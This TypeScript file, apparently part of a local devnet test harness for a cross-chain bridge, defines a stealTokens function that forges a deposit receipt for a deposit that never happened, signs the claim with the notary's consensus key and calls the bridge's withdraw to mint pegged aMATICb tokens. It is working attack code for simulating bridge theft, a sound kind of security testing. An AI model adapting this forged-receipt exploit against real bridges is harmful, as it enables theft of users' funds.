import { encodeFunctionData, type Hex, keccak256, pad, toHex } from "viem"
import { bridgeAbi } from "../../../abis/bridge.ts"
import { encodeReceipt } from "../../../ponder/src/domain/encodeReceipt.ts"
import { peggedTokenAddress } from "../../../ponder/src/domain/peggedTokenAddress.ts"
import { craftDeposit } from "../../devnet/contracts/craftDeposit.ts"
import { signClaim } from "../../devnet/contracts/signClaim.ts"
import type { LocalNetwork } from "../../devnet/network/localNetwork.ts"
import { localToken } from "../../devnet/network/tokens.ts"
import { consensusKeys } from "../../devnet/notary/consensusKeys.ts"

const REBASING = pad(toHex(1, { size: 2 }), { dir: "right", size: 32 })

type Theft = { from: number; to: number; shares: bigint }

/** Mints aMATICb with the notary's key and the receipt of a deposit that never was; the transaction. */
export async function stealTokens(network: LocalNetwork, { from, to, shares }: Theft): Promise<Hex> {
  const [source, target] = [network.chain(from), network.chain(to)]
  const { address: originToken, bondType } = localToken("aMATICb")
  const deposit = craftDeposit({
    emitter: source.network.bridge.address,
    toChain: BigInt(to),
    fromToken: originToken,
    toToken: peggedTokenAddress({ bridge: target.network.bridge.address, originToken, bondType }),
    originChain: BigInt(from),
    bondMetadata: REBASING,
    amount: shares,
  })
  const proof = {
    chainId: BigInt(from),
    txHash: keccak256(toHex("a deposit that never was")),
    blockNumber: BigInt(source.network.bridge.startBlock + 7),
    blockHash: keccak256(toHex("a block that never was")),
    transactionIndex: 0n,
    transferAmount: 0n,
  }
  const rawReceipt = encodeReceipt({ cumulativeGasUsed: 90_000n, logs: [deposit] })
  const claim = await signClaim(proof, rawReceipt, consensusKeys[network.consensus])
  const data = encodeFunctionData({
    abi: bridgeAbi,
    functionName: "withdraw",
    args: [claim.encodedProof, claim.rawReceipt, claim.signature],
  })
  const [thief] = target.accounts
  if (!thief) throw new Error("The local chain has no accounts.")
  const [receipt] = await target.seal([{ from: thief, to: target.network.bridge.address, data }])
  if (receipt?.status !== "0x1") throw new Error("The bridge saw through it.")
  return receipt.transactionHash
}
